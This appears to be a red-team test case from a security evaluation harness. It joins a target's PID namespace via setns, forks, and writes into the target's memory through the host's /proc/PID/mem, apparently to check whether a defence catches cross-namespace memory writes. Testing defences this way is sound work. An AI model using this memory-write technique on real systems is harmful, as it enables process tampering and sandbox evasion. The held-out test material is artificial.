"""Round 3: from inside the agent's PID namespace, but with the host's /proc, write /proc/HOSTPID/mem.

setns(CLONE_NEWPID) then fork: the child is in the container's PID
namespace, yet its mount namespace (and so its /proc) is the host's, where
the agent has its host pid.  A pid read from /proc is not a pid of the
caller's namespace.
"""

from __future__ import annotations

import ctypes
import os
from typing import Any

from redteam import rt

GAP = 3
MODE = "external"
TARGET = "ns"
HELD_OUT = True
ROUND = 3
EXPECT = ("L5",)
CLONE_NEWPID = 0x20000000


def run(args: dict[str, Any]) -> None:
    host_pid = int(args["pid"])  # external + ns: the namespaced victim's host pid
    addr = rt.target_addr(args, host_pid)
    nsfd = os.open(f"/proc/{host_pid}/ns/pid", os.O_RDONLY)
    if rt.libc().setns(nsfd, CLONE_NEWPID) != 0:
        raise OSError(ctypes.get_errno(), "setns(pid)")
    os.close(nsfd)
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:  # in the victim's PID namespace now
        rc = 1
        try:
            os.close(r)
            t = rt.now()
            fd = os.open(f"/proc/{host_pid}/mem", os.O_RDWR)
            data = os.pread(fd, 16, addr)
            n = os.pwrite(fd, data, addr)
            os.close(fd)
            os.write(w, f"{t} {n}".encode())
            rc = 0
        finally:
            os._exit(rc)
    os.close(w)
    out = os.read(r, 64).decode().split()
    os.close(r)
    os.waitpid(pid, 0)
    t, n = (int(out[0]), int(out[1])) if len(out) == 2 else (rt.now(), -1)
    rt.report(t, n == 16, f"in-ns child wrote {n} bytes through host /proc/{host_pid}/mem")


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
